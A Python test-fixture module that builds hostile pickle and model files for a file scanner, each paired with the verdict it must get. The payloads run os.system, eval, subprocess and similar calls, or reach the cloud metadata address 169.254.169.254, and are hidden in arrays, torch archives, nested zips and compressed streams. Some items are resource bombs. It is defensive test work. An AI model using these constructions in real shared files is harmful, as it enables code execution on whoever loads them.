"""Files made to harm whoever loads them, each with the verdict it must get and a word that its findings must name."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Hostile:
    """One file, what the scanner must say and what it must name."""

    filename: str
    data: bytes
    verdict: str
    names: str


def constant(value: Any) -> bytes:
    """Return the opcodes that push plain data."""
    return pickle.dumps(value, 2)[2:-1]


def text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def import_(module: str, name: str, protocol: int) -> bytes:
    if protocol < 4:
        return b"c" + f"{module}\n{name}\n".encode()
    return text(module) + text(name) + b"\x93"


def call(module: str, name: str, *arguments: Any, protocol: int = 4, end: bytes = b".") -> bytes:
    """Return a pickle that calls module.name(*arguments) when it is loaded."""
    header = bytes([0x80, protocol]) if protocol >= 2 else b""
    return header + import_(module, name, protocol) + constant(arguments) + b"R" + end


def calls(canary: str) -> dict[str, tuple[str, str, tuple[Any, ...]]]:
    """Ways to run something by one call, by name: module, name, arguments. All are malicious."""
    code = f"open({canary!r}, 'w').close()"
    touch = f"touch {canary}"
    return {
        "os.system": ("os", "system", (touch,)),
        "posix.system": ("posix", "system", (touch,)),
        "nt.system": ("nt", "system", (touch,)),
        "subprocess.Popen": ("subprocess", "Popen", (["touch", canary],)),
        "subprocess.getoutput": ("subprocess", "getoutput", (touch,)),
        "eval": ("builtins", "eval", (code,)),
        "exec": ("builtins", "exec", (code,)),
        "__import__": ("builtins", "__import__", ("antigravity",)),
        "getattr": ("builtins", "getattr", ("", "join")),
        "open": ("builtins", "open", (canary, "w")),
        "io.open": ("io", "open", (canary, "w")),
        "importlib.import_module": ("importlib", "import_module", ("antigravity",)),
        "pkgutil.resolve_name": ("pkgutil", "resolve_name", ("os:system",)),
        "runpy.run_path": ("runpy", "run_path", (canary,)),
        "runpy.run_module": ("runpy", "_run_code", (code, {})),
        "code.interact": ("code", "InteractiveInterpreter.runcode", (code,)),
        "pty.spawn": ("pty", "spawn", (["touch", canary],)),
        "timeit": ("timeit", "timeit", (code,)),
        "profile": ("cProfile", "run", (code,)),
        "pdb": ("pdb", "run", (code,)),
        "bdb": ("bdb", "Bdb.run", (code,)),
        "trace": ("trace", "Trace.run", (code,)),
        "doctest": ("doctest", "debug_script", (code,)),
        "uuid": ("uuid", "_get_command_stdout", ("touch", canary)),
        "imaplib": ("imaplib", "IMAP4_stream", (touch,)),
        "smtplib": ("smtplib", "SMTP", ("127.0.0.1", 25)),
        "ftplib": ("ftplib", "FTP", ("127.0.0.1",)),
        "telnetlib": ("telnetlib", "Telnet", ("127.0.0.1",)),
        "pip.main": ("pip", "main", (["install", "x"],)),
        "pip._internal": ("pip._internal", "main", (["install", "x"],)),
        "setuptools": ("setuptools._distutils.file_util", "write_file", (canary, ["x"])),
        "distutils": ("distutils.file_util", "write_file", (canary, ["x"])),
        "ctypes.CDLL": ("ctypes", "CDLL", (canary,)),
        "ctypes.pythonapi": ("ctypes", "pythonapi.PyRun_SimpleString", (code.encode(),)),
        "FileHandler": ("logging", "FileHandler", (canary,)),
        "logging.config": ("logging.config", "listen", (1,)),
        "urlopen": ("urllib.request", "urlopen", ("http://169.254.169.254/latest/meta-data/",)),
        "requests.get": ("requests", "get", ("http://169.254.169.254/",)),
        "socket": ("socket", "create_connection", (("127.0.0.1", 9),)),
        "multiprocessing.Client": ("multiprocessing.connection", "Client", (("127.0.0.1", 9),)),
        "asyncio": ("asyncio.subprocess", "create_subprocess_shell", (touch,)),
        "asyncio.unix": ("asyncio.unix_events", "_UnixSubprocessTransport._start", (touch,)),
        "webbrowser": ("webbrowser", "open", ("http://127.0.0.1",)),
        "shutil.rmtree": ("shutil", "rmtree", ("/nowhere",)),
        "sys.settrace": ("sys", "settrace", (None,)),
        "attrgetter": ("operator", "attrgetter", ("__class__",)),
        "methodcaller": ("operator", "methodcaller", ("__subclasses__",)),
        "functools.reduce": ("functools", "reduce", (None, [])),
        "idlelib": ("idlelib.pyshell", "ModifiedInterpreter.runcode", (code,)),
        "idlelib.autocomplete": ("idlelib.autocomplete", "AutoComplete.get_entity", (code,)),
        "lib2to3": ("lib2to3.pgen2.grammar", "Grammar.loads", (b"",)),
        "dill": ("dill", "loads", (b"N.",)),
        "cloudpickle": ("cloudpickle", "loads", (b"N.",)),
        "pickle.loads": ("pickle", "loads", (b"N.",)),
        "_pickle.loads": ("_pickle", "loads", (b"N.",)),
        "marshal.loads": ("marshal", "loads", (b"N",)),
        "types.FunctionType": ("types", "FunctionType", (None, {})),
        "types.CodeType": ("types", "CodeType", (0,)),
        "joblib.load": ("joblib", "load", (canary,)),
        "joblib.numpy_pickle.load": ("joblib.numpy_pickle", "load", (canary,)),
        "joblib.Memory": ("joblib", "Memory", (canary,)),
        "numpy.load": ("numpy", "load", (canary, None, True)),
        "numpy.f2py": ("numpy.f2py.crackfortran", "myeval", (code,)),
        "numpy.testing": ("numpy.testing._private.utils", "runstring", (code, {})),
        "numpy.save": ("numpy", "save", (canary, 1)),
        "numpy ufunc": ("numpy._core", "_ufunc_reconstruct", ("os", "system")),
        "pandas.read_pickle": ("pandas", "read_pickle", (canary,)),
        "pandas.io": ("pandas.io.pickle", "read_pickle", (canary,)),
        "pandas.eval": ("pandas.core.computation.eval", "eval", (code,)),
        "sklearn.load_files": ("sklearn.datasets", "load_files", ("/",)),
        "sklearn.fetch": ("sklearn.datasets._base", "urlretrieve", ("http://127.0.0.1/", canary)),
        "torch.load": ("torch", "load", (canary,)),
        "torch.hub": ("torch.hub", "load", ("someone/something", "model")),
        "torch.jit": ("torch.jit", "load", (canary,)),
        "torch config": ("torch.utils._config_module", "ConfigModule.load_config", (b"N.",)),
        "torch.fx": ("torch.fx.graph_module", "reduce_graph_module", ({}, "")),
        "torch collect_env": ("torch.utils.collect_env", "run", (touch,)),
        "torch inductor": ("torch._inductor.codecache", "compile_file", (canary, canary, "")),
        "keras.load_model": ("keras.models", "load_model", (canary,)),
        "module in a module": ("sklearn.utils", "os.system", (touch,)),
        "function of numpy.os": ("numpy", "os.system", (touch,)),
        "class attribute": ("sklearn.linear_model._base", "joblib.parallel.subprocess.Popen", ([touch],)),
        "tempfile": ("tempfile", "mkstemp", ()),
        "pathlib": ("pathlib", "Path.write_text", (canary, "")),
        "zipfile": ("zipfile", "ZipFile.extractall", (canary,)),
        "sqlite3": ("sqlite3", "connect", (canary,)),
        "antigravity": ("antigravity", "webbrowser.open", ("http://127.0.0.1",)),
        "gc": ("gc", "get_objects", ()),
        "inspect": ("inspect", "currentframe", ()),
        "yaml": ("yaml", "unsafe_load", ("",)),
    }


def pickles(canary: str) -> dict[str, Hostile]:
    """Single pickles, whole or broken, renamed or bare."""
    system = call("os", "system", f"touch {canary}")
    plain = system[:-1]
    old = call("os", "system", f"touch {canary}", protocol=0)
    made = {
        name: Hostile(f"{name}.pkl", call(*of[:2], *of[2]), "malicious", of[0]) for name, of in calls(canary).items()
    }
    for protocol in range(6):
        data = call("os", "system", f"touch {canary}", protocol=protocol)
        made[f"protocol {protocol}"] = Hostile("model.pkl", data, "malicious", "os.system")
    for suffix in ("bin", "json", "safetensors", "txt", "onnx", "h5", "gguf", "keras", "png", "md", "npy", "unknown"):
        made[f"as .{suffix}"] = Hostile(f"model.{suffix}", system, "malicious", "os.system")
        made[f"protocol 0 as .{suffix}"] = Hostile(f"model.{suffix}", old, "malicious", "os.system")
    popped = plain + b"0" + b"N."
    names = import_("os", "system", 4)
    memo = b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94" + b"h\x00h\x01\x93" + constant(("x",)) + b"R."
    duplicated = b"\x80\x04" + names + b"2" + b"0" + constant((f"touch {canary}",)) + b"R."
    inst = b"(" + constant(f"touch {canary}")[:-2] + b"ios\nsystem\n."
    obj = b"\x80\x02(" + import_("os", "system", 2) + constant(f"touch {canary}") + b"o."
    newobj = b"\x80\x04" + import_("subprocess", "Popen", 4) + constant((["touch", canary],)) + b"\x81."
    python2 = call("__builtin__", "eval", "1", protocol=2)
    commands = call("commands", "getoutput", f"touch {canary}", protocol=1)
    framed = b"\x80\x04\x95" + struct.pack("<Q", len(system) - 2) + system[2:]
    long_frame = b"\x80\x04\x95" + struct.pack("<Q", 2**62) + system[2:]
    only_named = b"\x80\x04" + names + b"."
    nested = call("builtins", "list", protocol=4, end=b"0") + system[2:]
    more = {
        "trailing garbage": Hostile("a.pkl", system + b"\xff" * 50, "malicious", "os.system"),
        "two pickles": Hostile("a.pkl", pickle.dumps([1]) + system, "malicious", "os.system"),
        "third pickle after garbage": Hostile("a.pkl", pickle.dumps([1]) + b"\xff" + system, "suspicious", "follow"),
        "a popped call": Hostile("a.pkl", popped, "malicious", "os.system"),
        "then a bad opcode": Hostile("a.pkl", plain + b"\xff", "malicious", "os.system"),
        "then the end": Hostile("a.pkl", plain, "malicious", "os.system"),
        "then a bad opcode, as text": Hostile("a.json", old[:-1] + b"\xff", "malicious", "os.system"),
        "through the memo": Hostile("a.pkl", memo, "malicious", "os.system"),
        "duplicated": Hostile("a.pkl", duplicated, "malicious", "os.system"),
        "INST": Hostile("a.pkl", inst, "malicious", "os.system"),
        "OBJ": Hostile("a.pkl", obj, "malicious", "os.system"),
        "NEWOBJ": Hostile("a.pkl", newobj, "malicious", "subprocess.Popen"),
        "Python 2's builtins": Hostile("a.pkl", python2, "malicious", "builtins.eval"),
        "Python 2's commands": Hostile("a.pkl", commands, "malicious", "subprocess.getoutput"),
        "in a frame": Hostile("a.pkl", framed, "malicious", "os.system"),
        "in a frame too long": Hostile("a.pkl", long_frame, "malicious", "os.system"),
        "named, never called": Hostile("a.pkl", only_named, "malicious", "os.system"),
        "after an honest call": Hostile("a.pkl", nested, "malicious", "os.system"),
        "partial": Hostile(
            "a.pkl",
            b"\x80\x04" + import_("functools", "partial", 4) + names + constant("touch x") + b"\x86R.",
            "malicious",
            "os.system",
        ),
    }
    return made | more | doubtful(canary)


def doubtful(canary: str) -> dict[str, Hostile]:
    """Pickles that may do anything or nothing: never clean."""
    computed = b"\x80\x04" + import_("builtins", "str", 4) + constant(("os",)) + b"R" + text("system") + b"\x93)R."
    curried = b"\x80\x04" + import_("functools", "partial", 4) + import_("builtins", "list", 4) + b"\x85R)R."
    patched = b"\x80\x04" + import_("builtins", "list", 4) + constant((None, {"append": 1})) + b"b."
    bomb = b"\x80\x02]q\x00" + b"h\x00h\x00\x86q\x00" * 200_000 + b"."
    doubled = b"\x80\x02N" + b"2\x86" * 1_000_000 + b"."
    deep = b"\x80\x02N" + b"\x85" * 1_000_000 + b"."
    wrapper = import_("joblib.numpy_pickle", "NumpyArrayWrapper", 4) + b")\x81}b"
    unknown = call("someone_s_module", "Model", 1)
    return {
        "unknown module": Hostile("a.pkl", unknown, "suspicious", "someone_s_module.Model"),
        "unknown name of a known module": Hostile("a.pkl", call("sklearn.base", "Thing"), "suspicious", "sklearn.base"),
        "distribution with code in its state": Hostile(
            "a.pkl", call("scipy.stats._continuous_distns", "norm_gen"), "suspicious", "scipy.stats"
        ),
        "three-part type": Hostile("a.pkl", call("builtins", "type", "T", (), {}), "suspicious", "builtins.type"),
        "computed name": Hostile("a.pkl", computed, "suspicious", "computes the name"),
        "computed call": Hostile("a.pkl", curried, "suspicious", "what another call gave"),
        "patched class": Hostile("a.pkl", patched, "suspicious", "changes builtins.list"),
        "extension code": Hostile("a.pkl", b"\x80\x02\x82\x01.", "suspicious", "number"),
        "empty": Hostile("a.pkl", b"\x80\x04.", "suspicious", "breaks"),
        "noise": Hostile("a.pkl", b"\x80\x04" + bytes(range(255, 0, -1)), "suspicious", "breaks"),
        "not a pickle": Hostile("a.pkl", b"hello, world", "suspicious", "breaks"),
        "huge length": Hostile("a.pkl", b"\x80\x04\x8e" + b"\xff" * 8, "suspicious", "ends inside"),
        "huge text length": Hostile("a.pkl", b"\x80\x04\x8d" + b"\xff" * 8, "suspicious", "ends inside"),
        "endless line": Hostile("a.pkl", b"c" + b"a" * 3_000_000, "suspicious", "ends inside"),
        "negative length": Hostile("a.pkl", b"\x80\x02T\xff\xff\xff\xff.", "suspicious", "negative"),
        "memo out of nowhere": Hostile("a.pkl", b"\x80\x02h\x07.", "suspicious", "memo"),
        "memo bomb": Hostile("a.pkl", bomb, "suspicious", "shared"),
        "doubling bomb": Hostile("a.pkl", doubled, "suspicious", "shared"),
        "deep tuples": Hostile("a.pkl", deep, "clean", ""),
        "array without a shape": Hostile("a.joblib", b"\x80\x04" + wrapper + b".", "suspicious", "size cannot be told"),
    }


def smuggled(canary: str) -> dict[str, Hostile]:
    """Pickles inside other files: arrays, compressed streams, archives, torch's forms."""
    system = call("os", "system", f"touch {canary}")
    array = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }")
    compressed = {"gz": gzip.compress(system), "z": zlib.compress(system), "bz2": bz2.compress(system)}
    compressed |= {"xz": lzma.compress(system), "lzma": lzma.compress(system, format=lzma.FORMAT_ALONE)}
    made = {f"in {kind}": Hostile("model.joblib", data, "malicious", "os.system") for kind, data in compressed.items()}
    torch_zip = archive({"m/data.pkl": system, "m/version": b"3\n", "m/data/0": b"\0" * 16})
    stored = archive({"m/data.pkl": system}, method=zipfile.ZIP_STORED)
    header = stored.index(b"PK\x01\x02")
    flagged = bytearray(stored)
    flagged[6] |= 1
    flagged[header + 8] |= 1
    legacy = b"".join([pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2), pickle.dumps({}, 2), system])
    script = {"m/data.pkl": pickle.dumps({}), "m/code/__torch__.py": b"def forward(self): pass\n"}
    five = system
    for number in range(6):
        five = archive({f"{number}.zip": five})
    wide = archive({"deep.zip": five, "model.pkl": system})
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w:gz") as tar:
        tar.addfile(tarfile.TarInfo("m/"), None)
        member = tarfile.TarInfo("m/weights.bin")
        member.size = len(system)
        tar.addfile(member, io.BytesIO(system))
    storage = call("torch.storage", "_load_from_bytes", torch_zip)
    blob = b"\x80\x04" + import_("torch.storage", "_load_from_bytes", 4) + b"B" + struct.pack("<I", len(torch_zip))
    return made | {
        "array of objects": Hostile("a.npy", array + system, "malicious", "os.system"),
        **{
            f"array header {number}": Hostile("a.npy", npy(header) + system, "malicious", "os.system")
            for number, header in enumerate(ODD_HEADERS)
        },
        "array of objects in npz": Hostile("a.npz", archive({"x.npy": array + system}), "malicious", "os.system"),
        "joblib array of objects": Hostile("a.joblib", wrapped(system), "malicious", "os.system"),
        "opcodes in a joblib array": Hostile("a.pkl", wrapped(system, numbers=True), "malicious", "os.system"),
        "array inside a frame": Hostile("a.joblib", wrapped(system, framed=True), "malicious", "os.system"),
        "torch archive": Hostile("a.pt", torch_zip, "malicious", "m/data.pkl"),
        "torch archive without a suffix": Hostile("a", torch_zip, "malicious", "os.system"),
        "torch archive, bad checksum": Hostile(
            "a.pt", stored.replace(b"\x94touch", b"\x94Touch"), "malicious", "os.system"
        ),
        "torch archive, wrong checksum": Hostile("a.pt", wrong_checksum(stored), "malicious", "checksum"),
        "torch archive, encrypted flag": Hostile("a.pt", bytes(flagged), "malicious", "encrypted"),
        "torch archive in json": Hostile("a.json", torch_zip, "malicious", "os.system"),
        "torch of before": Hostile("a.pth", legacy, "malicious", "os.system"),
        "TorchScript": Hostile("a.pt", archive(script), "suspicious", "TorchScript"),
        "pickle as a tensor's storage": Hostile(
            "a.pt", archive({"m/data.pkl": pickle.dumps({}), "m/data/0": system}), "malicious", "m/data/0"
        ),
        "tensor in a plain pickle": Hostile("a.pkl", blob + torch_zip + b"\x85R.", "malicious", "os.system"),
        "computed tensor in a plain pickle": Hostile("a.pkl", storage, "suspicious", "computes"),
        "in a zip": Hostile("a.zip", archive({"docs/readme.txt": system}), "malicious", "docs/readme.txt"),
        "in a zip in a zip": Hostile(
            "a.zip", archive({"b.zip": archive({"c.bin": system})}), "malicious", "b.zip: c.bin"
        ),
        "in a tar.gz": Hostile("a.tar.gz", inner.getvalue(), "malicious", "m/weights.bin"),
        "six zips deep": Hostile("a.zip", five, "unscanned", "nested"),
        "beside what is too deep": Hostile("a.zip", wide, "malicious", "model.pkl"),
        "behind an image": Hostile("a.gif", b"GIF89a" + b"\0" * 20 + torch_zip, "malicious", "os.system"),
        "zip behind a pickle": Hostile("a.pkl", pickle.dumps({}) + torch_zip, "malicious", "os.system"),
        "in half a gzip": Hostile(
            "a.gz", gzip.compress(system + bytes(range(256)) * 40)[:-30], "malicious", "os.system"
        ),
        "lz4": Hostile("a.joblib", b"\x04\x22\x4d\x18" + b"\0" * 20, "unscanned", "lz4"),
        "program": Hostile("a.bin", b"\x7fELF" + b"\0" * 100, "suspicious", "program"),
    }


ODD_HEADERS = (  # all of them arrays of objects to numpy
    '{"descr": "|O", "fortran_order": False, "shape": (1,), }',
    "{'descr': '|O8', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': [('a', '<i4'), ('b', 'object')], 'fortran_order': False, 'shape': (1,), }",
    "{'descr': 'i4,O', 'fortran_order': False, 'shape': (1,), }",
    "{'shape': (1,), 'fortran_order': False, 'descr': '|O'}",
    "{'descr': '<i4', 'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
)


def npy(header: str) -> bytes:
    """Return the beginning of an .npy file."""
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", 119) + header.encode().ljust(118) + b"\n"


def wrapped(system: bytes, numbers: bool = False, framed: bool = False) -> bytes:
    """Return a joblib file with one array: objects that are a pickle, or numbers that are opcodes."""
    size = len(system) - 2
    dtype = import_("numpy", "dtype", 4) + constant(("V1" if numbers else "O8", False, True)) + b"R"
    if numbers:
        dtype = import_("numpy", "dtype", 4) + constant(("S1", False, True)) + b"R"
        dtype += constant((3, "|", None, None, None, 1, 1, 0)) + b"b"
    state = text("dtype") + dtype + text("shape") + constant((size,)) + text("order") + text("C")
    body = import_("joblib.numpy_pickle", "NumpyArrayWrapper", 4) + b")\x81}(" + state + b"ub"
    if framed:
        inside = body + system[2:]
        return b"\x80\x04\x95" + struct.pack("<Q", len(inside)) + inside + b"\0" * size
    return b"\x80\x04" + body + (system[2:] if numbers else system) + b"."


def archive(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a ZIP archive of these members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return file.getvalue()


def wrong_checksum(data: bytes) -> bytes:
    """Return an archive whose first member's checksum is wrong in both places."""
    at = data.index(b"PK\x01\x02") + 16
    checksum = data[at : at + 4]
    return data.replace(checksum, bytes(byte ^ 0xFF for byte in checksum))
